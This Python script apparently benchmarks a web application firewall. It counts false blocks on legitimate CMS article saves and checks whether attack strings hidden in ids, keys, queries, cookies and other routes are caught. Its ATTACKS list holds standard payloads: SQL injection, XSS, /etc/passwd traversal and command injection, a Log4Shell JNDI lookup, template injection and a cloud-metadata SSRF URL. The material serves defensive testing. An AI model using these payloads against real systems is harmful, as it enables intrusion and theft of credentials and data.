"""How many saves of an authenticated editor are blocked, and whether an attack beside the text is still caught.

Saves are technical articles in the shapes that headless CMSs keep them in, mixed paragraph by paragraph, so that no two are
alike. Each goes through the engine twice, as an editor's and as nobody's. Attacks are put where no editor writes: into ids,
relationships, keys, the query, fields of the head, other routes. With `--crs` a Core Rule Set is asked beside the rules that
ship.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from collections import Counter
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

ROOT = Path(__file__).parents[1]
sys.path.insert(0, str(ROOT / "tests" / "plugins"))

import crs  # noqa: E402 - beside this file
from editorial_saves import SHAPES, articles, saves  # noqa: E402 - behind the path above

from edgeguard.config.model import Crs, Waf  # noqa: E402 - as above
from edgeguard.message import Account, Body, Client, Headers, Request  # noqa: E402
from edgeguard.waf import load_rules  # noqa: E402

if TYPE_CHECKING:
    from collections.abc import Iterator

    from edgeguard.waf import Ruleset, Verdict

EDITOR = Client("203.0.113.7", "203.0.113.7", Account("editor", "token", verified=True))
NOBODY = Client("203.0.113.7", "203.0.113.7")
ATTACKS = (
    "1' UNION SELECT username, password FROM users-- -",
    "x' OR '1'='1",
    "1; DROP TABLE users--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "$(cat /etc/passwd)",
    "; cat /etc/passwd",
    "| whoami",
    "${jndi:ldap://203.0.113.9/a}",
    "{{7*7}}{{config.__class__.__init__.__globals__}}",
    "http://169.254.169.254/latest/meta-data/",
)


def mixed(count: int, seed: int) -> Iterator[bytes]:
    """Saves of articles that are put together from parts of several."""
    random = Random(seed)
    known = articles()
    parts = [part for article in known for part in article["text"].split("\n\n")]
    for number in range(count):
        text = "\n\n".join(random.choices(parts, k=random.randint(3, 12)))
        title = random.choice(known)["title"]
        attributes = {"title": title, "body": random.choice(list(SHAPES.values()))(text), "position": number}
        yield json.dumps({"data": {"type": "item", "attributes": attributes}}, ensure_ascii=False).encode()


def request(body: bytes, path: bytes = b"/items/12", query: bytes | None = None, **fields: str) -> Request:
    headers = {
        "host": "cms.example", "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "accept": "application/json",
        "content-type": "application/vnd.api+json", "content-length": str(len(body)), **fields,
    }  # fmt: skip
    made = Headers([(name.encode(), value.encode()) for name, value in headers.items()])
    return Request(b"PATCH", path, path, query, b"https", b"cms.example", made, Body(None, len(body)))


def ask(ruleset: Ruleset, made: Request, body: bytes, client: Client) -> tuple[Verdict, int]:
    transaction = ruleset.transaction(made, client)
    verdict = transaction.request_head()
    if not verdict.blocked:
        verdict = transaction.request_body(body)
    return verdict, transaction.nanoseconds


def attacks() -> Iterator[tuple[str, Request, bytes, Client]]:
    """The place, and the request."""
    article = {"title": "SQL", "body": articles()[0]["text"]}

    def save(**data: Any) -> bytes:
        return json.dumps({"data": {"type": "item", "attributes": article, **data}}).encode()

    for attack in ATTACKS:
        body = save()
        for place, content in (
            ("id", save(id=attack)),
            ("relationship", save(relationships={"author": {"data": {"id": attack}}})),
            ("meta", save(meta={"x": attack})),
            ("beside data", json.dumps({"data": {"attributes": article}, "x": attack}).encode()),
            ("dotted key", json.dumps({"data.attributes.title": attack}).encode()),
            ("key given twice", body[:-2] + b', "attributes": {"title": ' + json.dumps(attack).encode() + b"}}}"),
            ("cut short", save(attributes={"title": attack})[:-1]),
        ):
            yield place, request(content), content, EDITOR
        content = save(attributes={"title": attack})
        yield "query", request(body, query=b"filter=" + quote(attack).encode()), body, EDITOR
        yield "cookie", request(body, cookie="theme=" + quote(attack)), body, EDITOR
        yield "other route", request(content, b"/comments/12"), content, EDITOR
        yield "escaped route", request(content, b"/items/..%2Fcomments"), content, EDITOR
        yield "from nobody", request(content), content, NOBODY
        yield "as plain text", request(content, **{"content-type": "text/plain"}), content, EDITOR


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("--crs", type=Path, help="the folder of a Core Rule Set")
    options.add_argument("--saves", type=int, default=2000, help="mixed articles, besides the whole ones (default: 2000)")
    options.add_argument("--seed", type=int, default=1)
    options.add_argument("--examples", action="store_true", help="show what was blocked, and what was missed")
    given = options.parse_args()
    own = None if given.crs is None else Crs(path=given.crs, variables=crs.ALLOWED)
    ruleset = load_rules([ROOT / "rules"], Waf(crs=own))
    bodies = [body for _, body in saves()] + list(mixed(given.saves, given.seed))
    for name, client in (("nobody's", NOBODY), ("an editor's", EDITOR)):
        told: Counter[str] = Counter()
        times: list[int] = []
        blocked = 0
        for body in bodies:
            verdict, nanoseconds = ask(ruleset, request(body), body, client)
            times.append(nanoseconds)
            blocked += verdict.blocked
            told.update({match.rule for match in verdict.matches})
            if given.examples and verdict.blocked and client is EDITOR:
                print([(match.rule, match.target, match.value) for match in verdict.matches])
        times.sort()
        took = f"p50 {times[len(times) // 2] / 1000:.0f} µs, p99 {times[int(len(times) * 0.99)] / 1000:.0f} µs"
        print(f"{name} saves: {blocked} of {len(bodies)} blocked, {blocked / len(bodies):.2%}; {took}")
        print(f"  by rule: {', '.join(f'{rule} {count}' for rule, count in told.most_common(6)) or 'none'}")
    caught: Counter[str] = Counter()
    placed: Counter[str] = Counter()
    for place, made, body, client in attacks():
        verdict, _ = ask(ruleset, made, body, client)
        placed[place] += 1
        caught[place] += verdict.blocked
        if given.examples and not verdict.blocked:
            print("missed:", place, body[:160])
    print("attacks beside the text: " + ", ".join(f"{place} {caught[place]} of {count}" for place, count in placed.items()))


if __name__ == "__main__":
    began = time.monotonic()
    main()
    print(f"({time.monotonic() - began:.0f} s)")
